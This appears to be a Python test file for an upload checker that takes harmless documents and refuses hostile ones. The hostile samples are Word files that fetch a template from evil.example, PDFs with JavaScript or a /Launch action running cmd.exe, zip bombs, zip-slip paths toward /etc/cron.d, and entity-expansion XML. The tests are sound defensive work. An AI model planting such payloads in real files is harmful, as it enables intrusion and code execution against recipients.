"""Hostile files: each is refused in one sentence, and the harmless one beside it is taken."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from contextlib import suppress

import pytest
from docx import Document as Word
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from tracker.errors import BadInput
from tracker.services.document_checks import TYPES, type_of

MOST = 2 * 2**20


def word(*more: tuple[str, bytes], change: Callable[[str, bytes], bytes] = lambda _n, c: c) -> bytes:
    """A real Word file, with parts changed or added."""
    made = io.BytesIO()
    Word().save(made)
    return packed([*unpacked(made.getvalue(), change), *more])


def unpacked(content: bytes, change: Callable[[str, bytes], bytes]) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [(each.filename, change(each.filename, archive.read(each))) for each in archive.infolist()]


def packed(parts: Iterable[tuple[str, bytes]]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return made.getvalue()


def excel() -> bytes:
    made = io.BytesIO()
    Workbook().save(made)
    return made.getvalue()


def png(width: int = 2, height: int = 2, behind: bytes = b"") -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    lines = zlib.compress(b"\0\0\0" * 2)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", lines) + chunk(b"IEND", b"") + behind


def jpeg(width: int = 2, height: int = 2, behind: bytes = b"") -> bytes:
    frame = struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\1\x11\0"
    return (
        b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xc0"
        + frame
        + b"\xff\xda\0\x08\1\1\0\0\x3f\0\0\xff\xd9"
        + behind
    )


def pdf(inside: bytes = b"", behind: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + inside + b" >>\nendobj\ntrailer\n<< >>\n%%EOF\n" + behind
    )


GOOD = {
    "report.docx": word(), "REPORT.DOCX": word(), "figures.xlsx": excel(), "report.pdf": pdf(), "plan.png": png(),
    "scan.jpg": jpeg(), "scan.JPEG": jpeg(), "note.txt": b"1 < 2 & so on\r\n", "bom.txt": "\ufeffé".encode(),
    "../../etc/passwd.txt": b"The name goes no further.",
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_what_is_what_it_says_is_taken(name: str) -> None:
    found = type_of(name, GOOD[name], most_bytes=MOST)
    assert found is TYPES[found.ending]


def _fetching(name: str, content: bytes) -> bytes:
    """Fetch the template from elsewhere when it is opened."""
    if name != "word/_rels/document.xml.rels":
        return content
    more = b'<Relationship Id="x" Type="http://x/attachedTemplate" Target="http://evil.example/x" TargetMode="External"/>'
    return content.replace(b"</Relationships>", more + b"</Relationships>")


def _of_macros(name: str, content: bytes) -> bytes:
    if name != "[Content_Types].xml":
        return content
    return content.replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml",
    )


def _with_entities(name: str, content: bytes) -> bytes:
    if name != "[Content_Types].xml":
        return content
    return b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><t>&b;</t>'


def _locked() -> bytes:
    content = bytearray(word())
    at = 0
    while (at := content.find(b"PK\x01\x02", at)) >= 0:
        content[at + 8] |= 1  # the bit that says that a part is encrypted
        at += 4
    return bytes(content)


def _lying() -> bytes:
    """A directory that lists far more packed bytes than the file has."""
    content = bytearray(word())
    at = content.find(b"PK\x01\x02")
    content[at + 20 : at + 24] = struct.pack("<I", 2**31)
    return bytes(content)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "empty": ("empty.pdf", b"", "is empty"),
    "too large": ("large.txt", b"x" * (MOST + 1), "2 megabytes or smaller"),
    "no ending": ("report", pdf(), "one of these types"),
    "a program": ("run.exe", b"MZ\x90\0", "one of these types"),
    "a picture that can act": ("picture.svg", SVG, "one of these types"),
    "a page": ("page.html", b"<html></html>", "one of these types"),
    "an e-mail": ("mail.eml", b"From: a\r\n\r\n", "one of these types"),
    "an old Word file": ("old.doc", b"\xd0\xcf\x11\xe0", "one of these types"),
    "a macro file by its name": ("macros.docm", word(), "one of these types"),
    "two endings": ("report.pdf.exe", pdf(), "one of these types"),
    "a page called text": ("page.txt", b" \n<!DOCTYPE html><script>alert(1)</script>", "plain text"),
    "a picture called text": ("picture.txt", SVG, "plain text"),
    "a program called text": ("run.txt", b"MZ\0\0", "plain text"),
    "text that is no UTF-8": ("latin.txt", b"caf\xe9", "UTF-8"),
    "a page called PDF": ("page.pdf", b"<html>%PDF-1.7 %%EOF", "content does not"),
    "a PDF without an end": ("cut.pdf", pdf()[:-8], "content does not"),
    "a PDF with a script": ("script.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "holds a script"),
    "a PDF with a hidden script": ("hidden.pdf", pdf(b"/OpenAction << /S /J#61vaScript >>"), "holds a script"),
    "a PDF that starts a program": ("launch.pdf", pdf(b"/A << /S /Launch /F (cmd.exe) >>"), "holds a script"),
    "a PDF with a file in it": ("carrier.pdf", pdf(b"/Names << /EmbeddedFiles 2 0 R >>"), "another file"),
    "a PDF that is also an archive": ("both.pdf", pdf(behind=word() + b"%%EOF"), "two kinds"),
    "a Word file called PDF": ("word.pdf", word(), "content does not"),
    "a picture that is also an archive": ("both.png", png(behind=word()), "behind its end"),
    "a picture without an end": ("cut.png", png()[:-12], "behind its end"),
    "a flood of pixels": ("flood.png", png(60_000, 60_000), "50 million pixels"),
    "a flood of pixels as JPEG": ("flood.jpg", jpeg(60_000, 60_000), "50 million pixels"),
    "no pixels": ("none.png", png(0, 9), "50 million pixels"),
    "a JPEG that is also an archive": ("both.jpg", jpeg(behind=word() + b"\xff\xd9"), "content does not"),
    "a JPEG with something behind it": ("more.jpg", jpeg(behind=b"<?php"), "content does not"),
    "a PNG called JPEG": ("png.jpg", png(), "content does not"),
    "an archive called Word": ("archive.docx", packed([("a.txt", b"a")]), "content does not"),
    "an Excel file called Word": ("excel.docx", excel(), "content does not"),
    "a Word file with a script before it": ("both.docx", b"#!/bin/sh\n" + word(), "content does not"),
    "a Word file with something behind it": ("more.docx", word() + b"<?php", "two kinds"),
    "a Word file with macros": ("macros.docx", word(("word/vbaProject.bin", b"x")), "holds macros"),
    "a macro file by its content": ("typed.docx", word(change=_of_macros), "holds macros"),
    "a Word file with a program": ("carrier.docx", word(("word/embeddings/run.exe", b"MZ")), "another file"),
    "a Word file with an object": ("object.docx", word(("word/embeddings/oleObject1.bin", b"x")), "another file"),
    "a Word file that fetches its template": ("fetches.docx", word(change=_fetching), "fetches a part"),
    "a Word file of entities": ("entities.docx", word(change=_with_entities), "damaged"),
    "a Word file with a password": ("locked.docx", _locked(), "password"),
    "a Word file whose parts lead elsewhere": ("slip.docx", word(("../../etc/cron.d/x", b"x")), "lead elsewhere"),
    "a bomb": ("bomb.docx", word(("word/big.xml", b"0" * 40 * 2**20)), "unpacks to far more"),
    "a bomb of many parts": ("many.docx", word(*((f"p/{n}.xml", b"") for n in range(3100))), "unpacks to far more"),
    "a directory that lies": ("lies.docx", _lying(), "unpacks to far more"),
    "a damaged Word file": ("cut.docx", word()[:-30], "damaged"),
}  # fmt: skip


@pytest.mark.parametrize("which", HOSTILE)
def test_what_could_harm_is_refused(which: str) -> None:
    name, content, words = HOSTILE[which]
    with pytest.raises(BadInput, match=words) as refused:
        type_of(name, content, most_bytes=MOST)
    assert str(refused.value).count("evil") == 0


@given(st.sampled_from(sorted(GOOD)), st.integers(0, 10**9), st.integers(0, 255))
def test_a_changed_byte_is_taken_or_refused_but_never_a_fault(name: str, where: int, becomes: int) -> None:
    content = bytearray(GOOD[name])
    content[where % len(content)] = becomes
    with suppress(BadInput):
        type_of(name, bytes(content), most_bytes=MOST)


@given(st.sampled_from(sorted(TYPES)), st.binary(max_size=300))
def test_noise_is_refused_without_a_fault(ending: str, noise: bytes) -> None:
    try:
        found = type_of(f"x.{ending}", noise, most_bytes=MOST)
    except BadInput:
        return
    assert found.ending == "txt"
